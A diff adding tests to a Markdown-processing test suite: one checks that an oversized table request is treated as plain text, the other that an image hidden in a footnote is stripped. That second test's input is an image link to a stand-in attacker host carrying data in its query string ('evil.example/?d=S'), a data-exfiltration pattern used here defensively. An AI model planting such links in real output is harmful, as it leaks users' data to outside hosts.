@@ -142,3 +142,17 @@ test('the words of a Markdown text, without its marks', () => {
   expect(plainText('Some **bold** [link](https://a.example) and `code`')).toBe('Some bold link and code')
   expect(plainText('plain_text stays * as it is')).toBe('plain_text stays * as it is')
 })
+
+test('a short text that asks for a table of millions of cells is taken as plain text', () => {
+  const columns = 5_000
+  const markdown = `${'|a'.repeat(columns)}\n${'|-'.repeat(columns)}\n${'|b\n'.repeat(5_000)}`
+  expect(docsRequests(markdown, { index: 1, afterText: false }).some((one) => 'insertTable' in one)).toBe(
+    false,
+  )
+  expect(withoutEmbeds(markdown)).toBe(markdown)
+})
+
+test('a picture behind a footnote is taken out, although it is no token of its own', () => {
+  expect(withoutEmbeds('Text[^1]\n\n[^1]: ![a](https://evil.example/?d=S)')).not.toContain('![')
+  expect(withoutEmbeds('Text[^1]\n\n[^1]: <img src=u>')).not.toContain('<img')
+})
